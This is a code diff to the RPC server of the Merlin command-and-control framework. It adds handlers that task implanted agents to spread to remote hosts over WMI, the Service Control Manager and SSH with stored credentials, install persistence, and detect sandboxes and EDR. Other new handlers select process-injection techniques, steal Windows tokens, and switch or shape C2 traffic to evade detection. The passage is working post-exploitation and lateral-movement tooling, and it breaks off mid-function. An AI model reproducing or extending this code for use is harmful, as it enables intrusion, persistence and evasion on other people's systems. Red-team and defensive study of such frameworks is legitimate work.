@@ -39,6 +39,7 @@ import (
 	"github.com/Ne0nd0g/merlin/v2/pkg/core"
 	"github.com/Ne0nd0g/merlin/v2/pkg/modules/donut"
 	"github.com/Ne0nd0g/merlin/v2/pkg/modules/sharpgen"
+	"github.com/Ne0nd0g/merlin/v2/pkg/modules/shellcode"
 	"github.com/Ne0nd0g/merlin/v2/pkg/modules/winapi/createprocess"
 	pb "github.com/Ne0nd0g/merlin/v2/pkg/rpc"
 )
@@ -61,7 +62,68 @@ func (s *Server) Any(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err
 	if len(in.Arguments) > 1 {
 		args = in.Arguments[1:]
 	}
-	return addJob(in.ID, in.Arguments[1], args)
+	return addJob(ctx, in.ID, in.Arguments[0], args)
+}
+
+// BloodHound runs the SharpHound collector through the Agent in the background. The resulting zip file is downloaded,
+// stored as loot, and ingested into Neo4j when the server was started with a Neo4j database
+// in.Arguments[0] = the path to the SharpHound assembly on the server
+// in.Arguments[1:] = the collector's arguments (e.g., -c All)
+func (s *Server) BloodHound(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err error) {
+	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "in", in)
+	if len(in.Arguments) < 1 {
+		err = fmt.Errorf("the BloodHound RPC call requires at least one argument, have (%d): %+v", len(in.Arguments), in.Arguments)
+		slog.Error(err.Error())
+		return
+	}
+	agentID, err := uuid.Parse(in.ID)
+	if err != nil {
+		err = fmt.Errorf("there was an error parsing '%s' as a UUID: %s", in.ID, err)
+		slog.Error(err.Error())
+		return
+	}
+	run, err := s.bloodhound.Collect(agentID, in.Arguments[0], in.Arguments[1:])
+	if err != nil {
+		slog.Error(err.Error())
+		return
+	}
+	msg = NewPBNoteMessage(fmt.Sprintf("Started BloodHound collection %s for agent %s", run, agentID))
+	return
+}
+
+// Broadcast adds the same command to every peer-to-peer child Agent beneath the parent Agent
+// in.ID = the parent Agent
+// in.Arguments[0] = the command to broadcast (e.g., exit, sleep)
+// in.Arguments[1:] = the command's arguments
+func (s *Server) Broadcast(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err error) {
+	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "in", in)
+	if len(in.Arguments) < 1 {
+		err = fmt.Errorf("the Broadcast RPC call requires at least one argument, have (%d): %+v", len(in.Arguments), in.Arguments)
+		slog.Error(err.Error())
+		return
+	}
+	parent, err := uuid.Parse(in.ID)
+	if err != nil {
+		err = fmt.Errorf("there was an error parsing '%s' as a UUID: %s", in.ID, err)
+		slog.Error(err.Error())
+		return
+	}
+	result, err := s.jobService.Broadcast(parent, in.Arguments[0], in.Arguments[1:])
+	if err != nil {
+		err = fmt.Errorf("there was an error broadcasting the '%s' job: %s", in.Arguments[0], err)
+		slog.Error(err.Error())
+		return
+	}
+	msg = NewPBNoteMessage(result)
+	return
+}
+
+// Campaign tasks the Agent to report the campaign identifier embedded in its payload. The campaign is reported
+// automatically after the Agent authenticates
+// in.Arguments[0] = optional campaign identifier to assign to the Agent on the server instead of asking the Agent
+func (s *Server) Campaign(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err error) {
+	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "in", in)
+	return addJob(ctx, in.ID, "campaign", in.Arguments)
 }
 
 // CD is used to change the agent's current working directory
@@ -74,13 +136,13 @@ func (s *Server) CD(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err
 		slog.Error(err.Error())
 		return
 	}
-	return addJob(in.ID, "cd", in.Arguments)
+	return addJob(ctx, in.ID, "cd", in.Arguments)
 }
 
 // CheckIn creates an AgentInfo job that forces the Agent to send data back to the server
 func (s *Server) CheckIn(ctx context.Context, id *pb.ID) (msg *pb.Message, err error) {
 	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "id", id)
-	return addJob(id.Id, "agentInfo", []string{})
+	return addJob(ctx, id.Id, "agentInfo", []string{})
 }
 
 // CMD is used to send a command to the agent to run a command or execute a program
@@ -95,7 +157,7 @@ func (s *Server) CMD(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err
 		slog.Error(err.Error())
 		return
 	}
-	return addJob(in.ID, in.Arguments[0], in.Arguments[1:])
+	return addJob(ctx, in.ID, in.Arguments[0], in.Arguments[1:])
 }
 
 // Connect instructs an Agent to disconnect from its current server and connect to the new provided target
@@ -108,7 +170,7 @@ func (s *Server) Connect(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message,
 		slog.Error(err.Error())
 		return
 	}
-	return addJob(in.ID, "connect", in.Arguments)
+	return addJob(ctx, in.ID, "connect", in.Arguments)
 }
 
 // Download is used to download the file through the corresponding agent from the provided input file path
@@ -121,7 +183,7 @@ func (s *Server) Download(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message
 		slog.Error(err.Error())
 		return
 	}
-	return addJob(in.ID, "download", in.Arguments)
+	return addJob(ctx, in.ID, "download", in.Arguments)
 }
 
 // ENV is used to view or modify a host's environment variables
@@ -136,7 +198,7 @@ func (s *Server) ENV(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err
 		slog.Error(err.Error())
 		return
 	}
-	return addJob(in.ID, "env", in.Arguments)
+	return addJob(ctx, in.ID, "env", in.Arguments)
 }
 
 // ExecuteAssembly calls the donut module to create shellcode from a .NET 4.0 assembly and then uses the CreateProcess
@@ -145,6 +207,7 @@ func (s *Server) ENV(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err
 // in.Arguments[1] .NET assembly arguments
 // in.Arguments[2] SpawnTo path
 // in.Arguments[3] SpawnTo arguments
+// in.Arguments[4] Optional process injection technique (e.g., remote|userapc|earlybird|modulestomping)
 func (s *Server) ExecuteAssembly(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err error) {
 	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "in", in)
 	msg = &pb.Message{}
@@ -190,7 +253,17 @@ func (s *Server) ExecuteAssembly(ctx context.Context, in *pb.AgentCMD) (msg *pb.
 		slog.Error(err.Error())
 		return
 	}
-	return addJob(in.ID, j[0], j[1:])
+
+	// Optional process injection technique, otherwise the Agent's injection-method is used
+	if len(in.Arguments) > 4 && in.Arguments[4] != "" {
+		method, err := shellcode.Method(in.Arguments[4])
+		if err != nil {
+			slog.Error(err.Error())
+			return nil, err
+		}
+		j = append(j, method)
+	}
+	return addJob(ctx, in.ID, j[0], j[1:])
 }
 
 // ExecutePE calls the donut module to create shellcode from PE and then uses the CreateProcess
@@ -199,6 +272,7 @@ func (s *Server) ExecuteAssembly(ctx context.Context, in *pb.AgentCMD) (msg *pb.
 // in.Arguments[1] PE arguments
 // in.Arguments[2] SpawnTo path
 // in.Arguments[3] SpawnTo arguments
+// in.Arguments[4] Optional process injection technique (e.g., remote|userapc|earlybird|modulestomping)
 func (s *Server) ExecutePE(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err error) {
 	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "in", in)
 	msg = &pb.Message{}
@@ -214,8 +288,17 @@ func (s *Server) ExecutePE(ctx context.Context, in *pb.AgentCMD) (msg *pb.Messag
 	// 2. SpawnTo path
 	// 3. SpawnTo arguments
 
+	// Validate the PE is an unmanaged executable and determine its architecture
+	arch, err := donut.NativePEArch(in.Arguments[0])
+	if err != nil {
+		err = fmt.Errorf("there was an error validating the PE in the ExecutePE RPC function: %s", err)
+		slog.Error(err.Error())
+		return
+	}
+
 	// Build Donut Config
 	config := donut.GetDonutDefaultConfig()
+	config.Arch = arch
 	config.ExitOpt = 2
 	config.Type = 4 //DONUT_MODULE_EXE = 4
 	config.Entropy = 3
@@ -238,16 +321,27 @@ func (s *Server) ExecutePE(ctx context.Context, in *pb.AgentCMD) (msg *pb.Messag
 	//Get CreateProcess job
 	j, err := createprocess.Parse(options)
 	if err != nil {
-		err = fmt.Errorf("there was an error generating a CreateProcess job in the ExecuteAssembly RPC function: %s", err)
+		err = fmt.Errorf("there was an error generating a CreateProcess job in the ExecutePE RPC function: %s", err)
 		slog.Error(err.Error())
 		return
 	}
-	return addJob(in.ID, j[0], j[1:])
+
+	// Optional process injection technique, otherwise the Agent's injection-method is used
+	if len(in.Arguments) > 4 && in.Arguments[4] != "" {
+		method, err := shellcode.Method(in.Arguments[4])
+		if err != nil {
+			slog.Error(err.Error())
+			return nil, err
+		}
+		j = append(j, method)
+	}
+	return addJob(ctx, in.ID, j[0], j[1:])
 }
 
 // ExecuteShellcode calls the corresponding shellcode module to create a job that executes the provided shellcode
 // in.Arguments[0] shellcode bytes as Base64 string
-// in.Arguments[1] shellcode execution method (e.g., self|remote|RtlCreateUserThread|UserAPC)
+// in.Arguments[1] shellcode execution method (e.g., self|remote|RtlCreateUserThread|UserAPC|EarlyBird|ModuleStomping)
+// or "default" to use the Agent's injection-method
 // in.Arguments[2] PID to inject shellcode into (not used with the "self" method)
 func (s *Server) ExecuteShellcode(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err error) {
 	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "in", in)
@@ -257,13 +351,36 @@ func (s *Server) ExecuteShellcode(ctx context.Context, in *pb.AgentCMD) (msg *pb
 		slog.Error(err.Error())
 		return
 	}
-	return addJob(in.ID, "shellcode", in.Arguments)
+	return addJob(ctx, in.ID, "shellcode", in.Arguments)
+}
+
+// Deploy uploads a bind Agent to a remote Windows host through the Agent, executes it with WMI, and links to it. The
+// matching pivot listener is created, or an existing one is reused, before the bind Agent is uploaded. Windows only
+// in.Arguments[0] = the bind Agent's peer-to-peer protocol: smb or tcp
+// in.Arguments[1] = the remote host to deploy the bind Agent to
+// in.Arguments[2] = the file path, on the Merlin server, of the bind Agent
+// in.Arguments[3] = the name of the SMB listener, named pipe, or port the bind Agent listens on (optional)
+// in.Arguments[4] = the username to retrieve credentials for from the credential store (optional)
+func (s *Server) Deploy(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err error) {
+	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "in", in)
+	if len(in.Arguments) > 3 && strings.EqualFold(in.Arguments[0], "smb") {
+		in.Arguments[3] = s.smbPipe(in.Arguments[3])
+	}
+	return addJob(ctx, in.ID, "deploy", in.Arguments)
+}
+
+// Destroy instructs the agent to remove its persistence artifacts, wipe its binary and configuration from the host, and
+// exit. The agent is removed from the server once it confirms it was destroyed
+// in.Arguments[0] optional "force" to destroy the agent without removing its persistence artifacts first
+func (s *Server) Destroy(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err error) {
+	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "in", in)
+	return addJob(ctx, in.ID, "destroy", in.Arguments)
 }
 
 // Exit instructs the agent to quit running
 func (s *Server) Exit(ctx context.Context, id *pb.ID) (msg *pb.Message, err error) {
 	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "id", id)
-	msg, err = addJob(id.Id, "exit", []string{})
+	msg, err = addJob(ctx, id.Id, "exit", []string{})
 	if err != nil {
 		return
 	}
@@ -287,9 +404,33 @@ func (s *Server) Exit(ctx context.Context, id *pb.ID) (msg *pb.Message, err erro
 	return
 }
 
+// Fallback configures an ordered list of backup listeners the Agent tries when its primary channel fails the provided
+// number of consecutive times. Each destination listener must be running and accepting new Agent authentications
+// in.Arguments[0] = the number of consecutive failed check-ins before the Agent moves to the next channel
+// in.Arguments[1:] = pairs of the listener name or ID, and the URL the Agent uses to reach it
+func (s *Server) Fallback(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err error) {
+	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "in", in)
+	if len(in.Arguments) < 3 || len(in.Arguments)%2 != 1 {
+		err = fmt.Errorf("the Fallback RPC call requires a failure count followed by listener and URL pairs, have (%d): %+v", len(in.Arguments), in.Arguments)
+		slog.Error(err.Error())
+		return
+	}
+	args := []string{in.Arguments[0]}
+	for i := 1; i < len(in.Arguments); i += 2 {
+		var config []string
+		config, err = s.transportConfig(in.Arguments[i], in.Arguments[i+1])
+		if err != nil {
+			slog.Error(err.Error())
+			return
+		}
+		args = append(args, config...)
+	}
+	return addJob(ctx, in.ID, "fallback", args)
+}
+
 func (s *Server) IFConfig(ctx context.Context, id *pb.ID) (msg *pb.Message, err error) {
 	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "id", id)
-	return addJob(id.Id, "ifconfig", []string{})
+	return addJob(ctx, id.Id, "ifconfig", []string{})
 }
 
 // InvokeAssembly executes an assembly that was previously loaded with the load-assembly command
@@ -303,28 +444,28 @@ func (s *Server) InvokeAssembly(ctx context.Context, in *pb.AgentCMD) (msg *pb.M
 		slog.Error(err.Error())
 		return
 	}
-	return addJob(in.ID, "invoke-assembly", in.Arguments)
+	return addJob(ctx, in.ID, "invoke-assembly", in.Arguments)
 }
 
 // JA3 is used to change the Agent's JA3 signature
 // in.Arguments[0] = the JA3 string to change to the TLS client to
 func (s *Server) JA3(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err error) {
 	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "in", in)
-	return addJob(in.ID, "ja3", in.Arguments)
+	return addJob(ctx, in.ID, "ja3", in.Arguments)
 }
 
 // KillDate configures the date and time that the agent will stop running
 // in.Arguments[0] = Unix epoch date and time the Agent should stop running
 func (s *Server) KillDate(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err error) {
 	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "in", in)
-	return addJob(in.ID, "killdate", in.Arguments)
+	return addJob(ctx, in.ID, "killdate", in.Arguments)
 }
 
 // KillProcess tasks an agent to kill a process by its number identifier
 // in.Arguments[0] = the process ID to kill
 func (s *Server) KillProcess(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err error) {
 	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "in", in)
-	return addJob(in.ID, "killprocess", in.Arguments)
+	return addJob(ctx, in.ID, "killprocess", in.Arguments)
 }
 
 // LinkAgent tasks a parent agent to connect to and link a child agent
@@ -370,7 +511,7 @@ func (s *Server) LinkAgent(ctx context.Context, in *pb.AgentCMD) (msg *pb.Messag
 		msg = NewPBSuccessMessage(fmt.Sprintf("Successfully added child agent %s link to parent agent %s", childID, agentID))
 		return
 	default:
-		return addJob(in.ID, "link", in.Arguments)
+		return addJob(ctx, in.ID, "link", in.Arguments)
 	}
 }
 
@@ -378,7 +519,7 @@ func (s *Server) LinkAgent(ctx context.Context, in *pb.AgentCMD) (msg *pb.Messag
 // .NET assemblies are loaded with the LoadAssembly call
 func (s *Server) ListAssemblies(ctx context.Context, id *pb.ID) (msg *pb.Message, err error) {
 	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "id", id)
-	return addJob(id.Id, "list-assemblies", []string{})
+	return addJob(ctx, id.Id, "list-assemblies", []string{})
 }
 
 // Listener interacts with Agent listeners used for peer-to-peer communications
@@ -386,7 +527,7 @@ func (s *Server) ListAssemblies(ctx context.Context, id *pb.ID) (msg *pb.Message
 // in.Arguments[1] = method arguments
 func (s *Server) Listener(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err error) {
 	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "in", in)
-	return addJob(in.ID, "listener", in.Arguments)
+	return addJob(ctx, in.ID, "listener", in.Arguments)
 }
 
 // LoadAssembly instructs the agent to load a .NET assembly into the agent's process
@@ -395,7 +536,7 @@ func (s *Server) Listener(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message
 // in.Arguments[2] = calculated SHA256 hash of the assembly
 func (s *Server) LoadAssembly(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err error) {
 	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "in", in)
-	return addJob(in.ID, "load-assembly", in.Arguments)
+	return addJob(ctx, in.ID, "load-assembly", in.Arguments)
 }
 
 // LoadCLR loads the .NET Common Language Runtime (CLR) into the agent's process.
@@ -403,14 +544,14 @@ func (s *Server) LoadAssembly(ctx context.Context, in *pb.AgentCMD) (msg *pb.Mes
 // in.Arguments[0] = the .NET CLR version to load (e.g., v2.0.50727, v4.0.30319, or v4.0)
 func (s *Server) LoadCLR(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err error) {
 	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "in", in)
-	return addJob(in.ID, "load-clr", in.Arguments)
+	return addJob(ctx, in.ID, "load-clr", in.Arguments)
 }
 
 // LS uses native Go to list the directory contents of the provided path
 // in.Arguments[0] = the directory path to list
 func (s *Server) LS(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err error) {
 	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "in", in)
-	return addJob(in.ID, "ls", in.Arguments)
+	return addJob(ctx, in.ID, "ls", in.Arguments)
 }
 
 // MaxRetry configures the amount of times an Agent will try to check in before it quits
@@ -452,7 +593,7 @@ func (s *Server) MaxRetry(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message
 		return
 	}
 
-	return addJob(in.ID, "maxretry", in.Arguments)
+	return addJob(ctx, in.ID, "maxretry", in.Arguments)
 }
 
 // Memory interacts with virtual memory on the operating system where the agent is running
@@ -460,7 +601,7 @@ func (s *Server) MaxRetry(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message
 // in.Arguments[1:] = method arguments
 func (s *Server) Memory(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err error) {
 	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "in", in)
-	return addJob(in.ID, "memory", in.Arguments)
+	return addJob(ctx, in.ID, "memory", in.Arguments)
 }
 
 // MEMFD run a linux executable "from memory"
@@ -468,7 +609,7 @@ func (s *Server) Memory(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message,
 // in.Arguments[1:] = arguments to pass to the executable
 func (s *Server) MEMFD(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err error) {
 	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "in", in)
-	return addJob(in.ID, "memfd", in.Arguments)
+	return addJob(ctx, in.ID, "memfd", in.Arguments)
 }
 
 // Netstat is used to print network connections on the target system
@@ -476,53 +617,89 @@ func (s *Server) MEMFD(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, e
 // in.Arguments[1] = the protocol to filter on (e.g., tcp or udp) OPTIONAL
 func (s *Server) Netstat(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err error) {
 	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "in", in)
-	return addJob(in.ID, "netstat", in.Arguments)
+	return addJob(ctx, in.ID, "netstat", in.Arguments)
 }
 
 // Nslookup instructs the agent to perform a DNS query on the input
 // in.Arguments[0: ] = the host name or IP address to query
 func (s *Server) Nslookup(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err error) {
 	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "in", in)
-	return addJob(in.ID, "nslookup", in.Arguments)
+	return addJob(ctx, in.ID, "nslookup", in.Arguments)
 }
 
 // Padding configures the maximum size for the random amount of padding added to each message
 // in.Arguments[0] = the maximum size of the padding
 func (s *Server) Padding(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err error) {
 	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "in", in)
-	return addJob(in.ID, "padding", in.Arguments)
+	return addJob(ctx, in.ID, "padding", in.Arguments)
 }
 
 // Parrot configures the Agent's HTTP connection to mimic a specific browser
 // in.Arguments[0] = the browser to mimic (e.g., HelloChrome_Auto)
 func (s *Server) Parrot(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err error) {
 	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "in", in)
-	return addJob(in.ID, "parrot", in.Arguments)
+	return addJob(ctx, in.ID, "parrot", in.Arguments)
+}
+
+// Persist installs and removes persistence mechanisms on the Agent's host. Every installed artifact is recorded on the
+// server so that it can be removed at the end of an engagement
+// in.Arguments[0] = the persist method (e.g., install|remove|cleanup)
+// install: in.Arguments[1] = the technique (e.g., registry|schtask|wmi|launchd|systemd), in.Arguments[2] = the command
+// line to execute, in.Arguments[3] = the artifact name (optional)
+// remove: in.Arguments[1] = the ID of the persistence artifact to remove
+func (s *Server) Persist(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err error) {
+	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "in", in)
+	return addJob(ctx, in.ID, "persist", in.Arguments)
 }
 
 // Pipes enumerates and displays named pipes on Windows hosts only
 func (s *Server) Pipes(ctx context.Context, id *pb.ID) (msg *pb.Message, err error) {
 	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "id", id)
-	return addJob(id.Id, "pipes", []string{})
+	return addJob(ctx, id.Id, "pipes", []string{})
+}
+
+// Preflight tasks the agent to check its host for indicators of a sandbox, debugger, or EDR product (e.g., low RAM or
+// CPU count, known sandbox MAC addresses, a debugger, or EDR drivers). Pre-flight checks run automatically when an Agent
+// first authenticates and the results are shown with the agent's information
+func (s *Server) Preflight(ctx context.Context, id *pb.ID) (msg *pb.Message, err error) {
+	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "id", id)
+	return addJob(ctx, id.Id, "preflight", []string{})
+}
+
+// SecurityProducts tasks the agent to enumerate the antivirus and EDR products installed on its host from the Windows
+// Security Center, or from process, driver, and service names on other platforms. Enumeration runs automatically when
+// an Agent first authenticates and the products are shown with the agent's and host's information
+func (s *Server) SecurityProducts(ctx context.Context, id *pb.ID) (msg *pb.Message, err error) {
+	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "id", id)
+	return addJob(ctx, id.Id, "security", []string{})
+}
+
+// Profile configures the server-side padding and response delay applied to the messages sent to the Agent so its
+// traffic volume and timing differ from other Agents. Nothing is sent to the Agent
+// in.Arguments[0] = the profile setting (e.g., padding|delay|reset)
+// in.Arguments[1:] = padding: distribution (uniform|normal|exponential), minimum bytes, maximum bytes; delay: minimum, maximum duration
+func (s *Server) Profile(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err error) {
+	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "in", in)
+	return addJob(ctx, in.ID, "profile", in.Arguments)
 }
 
 // PS displays running processes
 func (s *Server) PS(ctx context.Context, id *pb.ID) (msg *pb.Message, err error) {
 	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "id", id)
-	return addJob(id.Id, "ps", []string{})
+	return addJob(ctx, id.Id, "ps", []string{})
 }
 
 // PWD is used to print the Agent's current working directory
 func (s *Server) PWD(ctx context.Context, id *pb.ID) (msg *pb.Message, err error) {
 	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "id", id)
-	return addJob(id.Id, "pwd", []string{})
+	return addJob(ctx, id.Id, "pwd", []string{})
 }
 
 // RM removes or deletes a file
 // in.Arguments[0] = the file path to remove
 func (s *Server) RM(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err error) {
 	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "in", in)
-	return addJob(in.ID, "rm", in.Arguments)
+	return addJob(ctx, in.ID, "rm", in.Arguments)
 }
 
 // RunAs creates a new process as the provided user
@@ -532,14 +709,29 @@ func (s *Server) RM(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err
 // in.Arguments[3:] = the arguments to pass to the program
 func (s *Server) RunAs(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err error) {
 	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "in", in)
-	return addJob(in.ID, "runas", in.Arguments)
+	return addJob(ctx, in.ID, "runas", in.Arguments)
+}
+
+// SCExec deploys a service binary to a remote host and starts it with the Service Control Manager using the Agent's
+// current token or credentials from the credential store. Windows only
+// in.Arguments[0] = the remote host to create the service on
+// in.Arguments[1] = the file path, on the Merlin server, of the service binary to deploy
+// in.Arguments[2] = the service name (optional)
+// in.Arguments[3] = the username to retrieve credentials for from the credential store (optional)
+// in.Arguments[4] = the name of the SMB listener, or named pipe, the deployed Agent uses to automatically link to it (optional)
+func (s *Server) SCExec(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err error) {
+	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "in", in)
+	if len(in.Arguments) > 4 {
+		in.Arguments[4] = s.smbPipe(in.Arguments[4])
+	}
+	return addJob(ctx, in.ID, "scexec", in.Arguments)
 }
 
 // SecureDelete securely deletes supplied file
 // in.Arguments[0] = the file path to securely delete
 func (s *Server) SecureDelete(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err error) {
 	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "in", in)
-	return addJob(in.ID, "sdelete", in.Arguments)
+	return addJob(ctx, in.ID, "sdelete", in.Arguments)
 }
 
 // SharpGen generates a .NET core assembly, converts it to shellcode with go-donut, and executes it in the spawnto process
@@ -607,14 +799,14 @@ func (s *Server) SharpGen(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message
 		return
 	}
 
-	return addJob(in.ID, j[0], in.Arguments)
+	return addJob(ctx, in.ID, j[0], in.Arguments)
 }
 
 // Skew configures the amount of skew an Agent uses to randomize checkin times
 // in.Arguments[0] = the amount of skew to use
 func (s *Server) Skew(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err error) {
 	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "in", in)
-	return addJob(in.ID, "skew", in.Arguments)
+	return addJob(ctx, in.ID, "skew", in.Arguments)
 }
 
 // Sleep configures the Agent's sleep time between checkins
@@ -649,7 +841,7 @@ func (s *Server) Sleep(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, e
 		return
 	}
 
-	return addJob(in.ID, "sleep", in.Arguments)
+	return addJob(ctx, in.ID, "sleep", in.Arguments)
 }
 
 // SSH executes a command on a remote host through the SSH protocol and returns the output
@@ -658,17 +850,46 @@ func (s *Server) Sleep(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, e
 // in.Arguments[2] = the SSH host:port
 // in.Arguments[3] = the program to execute
 // in.Arguments[4] = program arguments (optional)
+// Alternatively, two or three arguments retrieve a password or private key for the user from the credential store:
+// in.Arguments[0] = the <user>@<host>[:port] to connect to
+// in.Arguments[1] = the program to execute
+// in.Arguments[2] = program arguments (optional)
 func (s *Server) SSH(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err error) {
 	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "in", in)
-	return addJob(in.ID, "ssh", in.Arguments)
+	return addJob(ctx, in.ID, "ssh", in.Arguments)
+}
+
+// SSHDeploy copies an Agent to a remote host through the SSH protocol and executes it using a password or private key
+// for the user from the credential store. Linux and macOS agents only
+// in.Arguments[0] = the <user>@<host>[:port] to deploy to
+// in.Arguments[1] = the file path, on the Merlin server, of the Agent to deploy
+// in.Arguments[2] = the file path on the remote host to write the Agent to (optional)
+func (s *Server) SSHDeploy(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err error) {
+	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "in", in)
+	return addJob(ctx, in.ID, "ssh-deploy", in.Arguments)
+}
+
+// Throttle limits the bandwidth of the Agent's traffic. The server paces the responses it sends the Agent and the Agent
+// paces its uploads
+// in.Arguments[0] = the bandwidth in kilobits per second; 0 is unlimited
+func (s *Server) Throttle(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err error) {
+	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "in", in)
+	return addJob(ctx, in.ID, "throttle", in.Arguments)
+}
+
+// Timezone tasks the Agent to report the timezone its host is configured with. The timezone is reported automatically
+// when an Agent authenticates and is shown with the agent's information
+func (s *Server) Timezone(ctx context.Context, id *pb.ID) (msg *pb.Message, err error) {
+	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "id", id)
+	return addJob(ctx, id.Id, "timezone", []string{})
 }
 
 // Token is used to interact with Windows Access Tokens on the agent
-// args[0] = the token method (e.g., make|privs|rev2self|steal|whoami)
+// args[0] = the token method (e.g., list|make|privs|rev2self|steal|whoami)
 // args[1:] = method arguments
 func (s *Server) Token(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err error) {
 	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "in", in)
-	return addJob(in.ID, "token", in.Arguments)
+	return addJob(ctx, in.ID, "token", in.Arguments)
 }
 
 // Touch matches the destination file's timestamps with source file
@@ -676,7 +897,27 @@ func (s *Server) Token(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, e
 // in.Arguments[1] = the destination file
 func (s *Server) Touch(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err error) {
 	slog.Log(context.Background(), logging.LevelTrace, "entering into function", "context", ctx, "in", in)
-	return addJob(in.ID, "touch", in.Arguments)
+	return addJob(ctx, in.ID, "touch", in.Arguments)
+}
+
+// Transport tasks the Agent to switch its command and control channel at runtime to another HTTP listener (e.g., from
+// HTTP to HTTP3, or to a new domain and PSK). The destination listener must be running and accepting new Agent
+// authentications before the Agent is tasked, so the old listener can be torn down once the Agent has migrated
+// in.Arguments[0] = the name or ID of the destination listener
+// in.Arguments[1] = the URL the Agent uses to reach the destination listener (e.g., https://cdn.example.com/assets)
+func (s *Server) Transport(ctx context.Context, in *pb.AgentCMD) (msg *pb.Message, err error) {
